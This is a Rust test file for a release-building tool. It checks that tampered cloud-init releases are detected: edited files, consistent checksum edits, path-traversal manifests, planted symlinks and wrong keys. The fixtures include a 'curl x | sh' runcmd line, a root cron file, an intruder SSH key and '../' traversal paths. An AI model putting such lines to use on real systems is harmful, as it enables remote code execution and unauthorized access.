//! A release is what its checksums say: `verify` names every difference,
//! `build` does not call an edited release unchanged, `diff` refuses an
//! edited release and shows what the VM receives, user-data included.

mod common;

use common::*;

const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBbooaqW1i3NLZTK+HlEwCOiEn901vgCjmAva1DELskl intruder@example";

fn append(path: &std::path::Path, text: &str) {
    let mut bytes = std::fs::read(path).unwrap();
    bytes.extend_from_slice(text.as_bytes());
    std::fs::write(path, bytes).unwrap();
}

#[test]
fn verify_names_every_difference() {
    let p = Project::new();
    let release = p.build("local", &[]);
    let version = version_of(&release);
    let ok = p.run(&["verify", "local"], &[]);
    assert_eq!(ok.code(), 0, "{}", ok.all());
    assert!(
        ok.stdout().contains(&format!("local {version}: ok")),
        "{}",
        ok.stdout()
    );

    append(
        &release.join("user-data"),
        "runcmd: [[sh, -c, 'curl x | sh']]\n",
    );
    append(
        &release.join("bundle/etc/sysctl.d/60-torrust-tracker.conf"),
        "net.ipv4.ip_forward = 1\n",
    );
    std::fs::write(
        release.join("bundle/etc/cron.d-evil"),
        "* * * * * root id\n",
    )
    .unwrap();
    std::fs::remove_file(release.join("meta-data")).unwrap();
    let run = p.run(&["verify", "local", &version, "--json"], &[]);
    assert_eq!(run.code(), 1, "{}", run.all());
    let v: serde_json::Value = serde_json::from_str(&run.stdout()).unwrap();
    let findings: Vec<String> = v["releases"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            format!(
                "{}: {}",
                f["path"].as_str().unwrap(),
                f["problem"].as_str().unwrap()
            )
        })
        .collect();
    let joined = findings.join("\n");
    for expected in [
        "user-data: differs",
        "bundle/etc/sysctl.d/60-torrust-tracker.conf: differs",
        "bundle/etc/cron.d-evil: not in any checksum list",
        "meta-data: missing",
    ] {
        assert!(joined.contains(expected), "{expected} not in:\n{joined}");
    }
    // A version argument is a version.
    let bad = p.run(&["verify", "local", "../x"], &[]);
    assert_eq!(bad.code(), 1);
}

#[test]
fn the_keyed_digest_catches_a_consistent_edit_of_a_secret_file() {
    let p = Project::new();
    let release = p.build("local", &[]);
    // Edit a secret file and its line in SHA256SUMS.secret to match: the
    // lists agree, the digest under the release key does not.
    let rel = "bundle/opt/torrust/secrets/grafana_admin_password";
    std::fs::write(release.join(rel), "changed-by-hand").unwrap();
    fix_list(&release, "SHA256SUMS.secret", rel);
    let run = p.run(&["verify", "local"], &[]);
    assert_eq!(run.code(), 1, "{}", run.all());
    assert!(
        run.stdout()
            .contains("differs from its digest under the release key"),
        "{}",
        run.stdout()
    );
}

#[test]
fn build_does_not_call_an_edited_release_unchanged() {
    let p = Project::new();
    let release = p.build("local", &[]);
    append(
        &release.join("user-data"),
        "runcmd: [[sh, -c, 'curl x | sh']]\n",
    );
    let run = p.run(&["build", "local"], &[]);
    assert_eq!(run.code(), 0, "{}", run.all());
    assert!(
        run.stdout()
            .contains("did not match its checksums (1 files); wrote it again"),
        "{}",
        run.all()
    );
    assert!(
        run.stderr().contains("user-data: differs"),
        "{}",
        run.stderr()
    );
    let out = verifier(
        "sha256sum",
        &["-c", "--strict", "SHA256SUMS.secret"],
        &release,
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let again = p.run(&["build", "local"], &[]);
    assert!(
        again.stdout().contains("is unchanged"),
        "{}",
        again.stdout()
    );
}

#[test]
fn diff_shows_what_the_vm_receives_and_refuses_edited_releases() {
    let p = Project::new();
    let a = p.build("local", &[]);
    let b = p.build("local", &[("SSH_PUBLIC_KEY", KEY)]);
    let (va, vb) = (version_of(&a), version_of(&b));
    let (va, vb) = (va.as_str(), vb.as_str());
    let run = p.run(&["diff", "local", va, vb], &[]);
    assert_eq!(run.code(), 0, "{}", run.all());
    let out = run.stdout();
    assert!(out.contains("modified: user-data"), "{out}");
    assert!(
        out.contains(&format!("+    - {KEY}")) || out.contains("intruder@example"),
        "{out}"
    );
    assert!(out.contains("modified: meta-data"), "{out}");
    assert!(
        !out.contains("bundle.tar.gz\n  content: H4sI"),
        "the archive is not shown"
    );
    // Lines that differ only in the version are hidden and counted (#29
    // item 10), and a unique prefix names a release, as in git.
    assert!(
        out.contains("differ only in the release version (hidden)"),
        "{out}"
    );
    assert!(
        !out.contains(&format!("+instance-id: 'torrust-local-{vb}'")),
        "{out}"
    );
    let short = p.run(&["diff", "local", &va[..6], &vb[..6]], &[]);
    assert_eq!(short.code(), 0, "{}", short.all());
    assert_eq!(short.stdout(), run.stdout());
    let none = p.run(&["diff", "local", "ffff", &vb[..6]], &[]);
    assert!(
        none.stderr()
            .contains("no release of local starts with ffff"),
        "{}",
        none.all()
    );

    append(&b.join("user-data"), "runcmd: [[id]]\n");
    let run = p.run(&["diff", "local", va, vb], &[]);
    assert_eq!(run.code(), 1, "{}", run.all());
    assert!(
        run.stderr().contains("does not match its checksums"),
        "{}",
        run.stderr()
    );
}

#[test]
fn a_crafted_manifest_cannot_lead_diff_outside_the_release() {
    let p = Project::new();
    let a = p.build("local", &[]);
    let b = p.build("local", &[("TORRUST_TRACKER_LOG_LEVEL", "trace")]);
    let manifest = b.join("manifest.json");
    let text = std::fs::read_to_string(&manifest)
        .unwrap()
        .replace("\"etc/hostname\"", "\"../../../../../../etc/hostname\"")
        .replace(
            "\"etc/sysctl.d/60-torrust-tracker.conf\"",
            "\"../../../../../../etc/hostname\"",
        );
    std::fs::write(&manifest, text).unwrap();
    // The attacker also fixes the checksum list, so only the path check stands.
    fix_list(&b, "SHA256SUMS", "manifest.json");
    let (va, vb) = (version_of(&a), version_of(&b));
    let (va, vb) = (va.as_str(), vb.as_str());
    let run = p.run(&["diff", "local", va, vb], &[]);
    assert_eq!(run.code(), 1, "{}", run.all());
    assert!(
        run.stderr().contains("names a path outside the release"),
        "{}",
        run.stderr()
    );
    let host = std::fs::read_to_string("/etc/hostname").unwrap_or_default();
    assert!(
        host.trim().is_empty() || !run.stdout().contains(host.trim()),
        "{}",
        run.all()
    );
}

/// Rewrite `rel`'s line in a checksum list so that the list agrees with the
/// edited file: the edit an attacker who can write the release makes.
fn fix_list(release: &std::path::Path, list: &str, rel: &str) {
    let out = verifier("sha256sum", &[rel], release);
    let line = String::from_utf8_lossy(&out.stdout).trim_end().to_string();
    let text: String = std::fs::read_to_string(release.join(list))
        .unwrap()
        .lines()
        .map(|l| if l.ends_with(&format!("  {rel}")) { line.clone() } else { l.to_string() } + "\n")
        .collect();
    std::fs::write(release.join(list), text).unwrap();
}

#[test]
fn a_consistent_edit_is_not_called_unchanged() {
    let p = Project::new();
    let release = p.build("local", &[]);
    append(&release.join("seed.iso"), "evil");
    fix_list(&release, "SHA256SUMS.secret", "seed.iso");
    let run = p.run(&["build", "local"], &[]);
    assert_eq!(run.code(), 0, "{}", run.all());
    assert!(run.stdout().contains("wrote it again"), "{}", run.stdout());
    assert!(
        run.stderr().contains("seed.iso: differs"),
        "{}",
        run.stderr()
    );
    let again = p.run(&["build", "local"], &[]);
    assert!(
        again.stdout().contains("is unchanged"),
        "{}",
        again.stdout()
    );
}

#[test]
fn a_symlink_planted_in_a_release_leads_nowhere() {
    let p = Project::new();
    let a = p.build("local", &[]);
    let b = p.build("local", &[("TORRUST_TRACKER_LOG_LEVEL", "trace")]);
    // The redacted twin of tracker.toml now points at the real one.
    let twin = b.join("redacted/opt/torrust/tracker/tracker.toml");
    std::fs::remove_file(&twin).unwrap();
    std::os::unix::fs::symlink("../../../../bundle/opt/torrust/tracker/tracker.toml", &twin)
        .unwrap();
    let verify = p.run(&["verify", "local", &version_of(&b)], &[]);
    assert_eq!(verify.code(), 1, "{}", verify.all());
    let (va, vb) = (version_of(&a), version_of(&b));
    let (va, vb) = (va.as_str(), vb.as_str());
    let run = p.run(&["diff", "local", va, vb], &[]);
    assert_eq!(run.code(), 1, "{}", run.all());
    assert!(
        !run.all().contains("MyAccessToken"),
        "a secret printed: {}",
        run.all()
    );
    // build puts it right.
    let rebuilt = p.run(
        &["build", "local", "--json"],
        &[("TORRUST_TRACKER_LOG_LEVEL", "trace")],
    );
    assert!(
        rebuilt.stdout().contains("\"repaired\""),
        "{}",
        rebuilt.stdout()
    );
    assert!(!std::fs::symlink_metadata(&twin)
        .unwrap()
        .file_type()
        .is_symlink());
}

/// A bundle file edited together with its line in SHA256SUMS and its entry
/// in manifest.json: every list agrees. `verify` called it ok, even with
/// the release key, and `libvirt up --release` booted it; the version's
/// HMAC over the manifest (recomputed from the stored files) does not agree.
#[test]
fn a_consistent_edit_of_a_bundle_file_fails_the_versions_hmac() {
    let p = Project::new();
    let release = p.build("local", &[]);
    let version = version_of(&release);
    let rel = "bundle/etc/sysctl.d/60-torrust-tracker.conf";
    append(&release.join(rel), "net.ipv4.ip_forward = 1\n");
    let digest = String::from_utf8(verifier("sha256sum", &[rel], &release).stdout).unwrap();
    let digest = digest.split_whitespace().next().unwrap().to_string();
    let size = std::fs::metadata(release.join(rel)).unwrap().len();
    let mut manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(release.join("manifest.json")).unwrap()).unwrap();
    for f in manifest["files"].as_array_mut().unwrap() {
        if f["path"] == "etc/sysctl.d/60-torrust-tracker.conf" {
            f["sha256"] = digest.clone().into();
            f["size"] = size.into();
        }
    }
    let mut json = serde_json::to_vec_pretty(&manifest).unwrap();
    json.push(b'\n');
    std::fs::write(release.join("manifest.json"), json).unwrap();
    fix_list(&release, "SHA256SUMS", rel);
    fix_list(&release, "SHA256SUMS", "manifest.json");
    let sums = verifier("sha256sum", &["-c", "--strict", "SHA256SUMS"], &release);
    assert!(sums.status.success(), "the lists agree with the edit");

    let run = p.run(&["verify", "local"], &[]);
    assert_eq!(run.code(), 1, "{}", run.all());
    let out = run.stdout();
    assert!(
        out.contains(&format!("local {version}: manifest.json: version {version} is not the HMAC of this manifest and the cloud-init files under the release key: they were edited to agree with each other (or the key changed)")),
        "{out}"
    );
    assert!(
        out.ends_with("rebuilding with the same inputs (`torrust-bake build local`, same environment file, secrets, image lock and release key) writes the release again\n"),
        "{out}"
    );
    let up = p.run(
        &["libvirt", "up", "local", "--release", &version, "--dry-run"],
        &[("LIBVIRT_DOMAIN_TYPE", "qemu")],
    );
    assert_eq!(up.code(), 1, "{}", up.all());
    assert!(
        up.stderr().contains("manifest.json version"),
        "{}",
        up.stderr()
    );
    // Rebuilding with the same inputs puts it right.
    let rebuilt = p.run(&["build", "local"], &[]);
    assert!(
        rebuilt.stdout().contains("wrote it again"),
        "{}",
        rebuilt.all()
    );
    assert_eq!(p.run(&["verify", "local"], &[]).code(), 0);
}

/// Another release key fails every keyed digest, each line ending "(or
/// the key changed)": one line first says what that most likely means.
/// Without the key (the environment does not load), `verify` says plainly
/// that only accidental damage is detected.
#[test]
fn verify_says_what_a_wrong_key_or_no_key_means() {
    let p = Project::new();
    let release = p.build("local", &[]);
    let version = version_of(&release);
    let other = [(
        "TORRUST_BAKE_RELEASE_KEY",
        "another-release-key-0123456789-abcdefghijkl",
    )];
    let run = p.run(&["verify", "local"], &other);
    assert_eq!(run.code(), 1, "{}", run.all());
    let out = run.stdout();
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines[0],
        format!("local {version}: the release key differs from the one this release was built with, or every secret-bearing file and the manifest were edited: no keyed digest matches under TORRUST_BAKE_RELEASE_KEY; with the key it was built with, `torrust-bake verify local` checks it"),
        "{out}"
    );
    assert!(
        lines[1..lines.len() - 1]
            .iter()
            .all(|l| l.ends_with("(or the key changed)")),
        "{out}"
    );
    let (_, v) = {
        let r = p.run(&["verify", "local", "--json"], &other);
        (
            r.code(),
            serde_json::from_str::<serde_json::Value>(&r.stdout()).unwrap(),
        )
    };
    assert_eq!(v["releases"][0]["key_differs"], true, "{v:#}");
    // A tampered file under the right key is no key problem.
    append(&release.join("user-data"), "# edited\n");
    let run = p.run(&["verify", "local"], &[]);
    assert_eq!(run.code(), 1);
    assert!(
        !run.stdout().contains("release key differs"),
        "{}",
        run.stdout()
    );

    let p = Project::new();
    p.build("local", &[]);
    let run = p.run(&["verify", "local"], &[("TORRUST_TRACKER_UDP_PORTS", "x")]);
    assert_eq!(run.code(), 0, "{}", run.all());
    assert!(
        run.stderr().contains("only accidental damage is detected; a file edited together with its lines in SHA256SUMS and manifest.json passes"),
        "{}",
        run.stderr()
    );
    let run = p.run(
        &["verify", "local", "--json"],
        &[("TORRUST_TRACKER_UDP_PORTS", "x")],
    );
    let v: serde_json::Value = serde_json::from_str(&run.stdout()).unwrap();
    assert_eq!(v["keyed"], false);
    assert!(
        v["note"]
            .as_str()
            .unwrap()
            .contains("only accidental damage"),
        "{v:#}"
    );
}
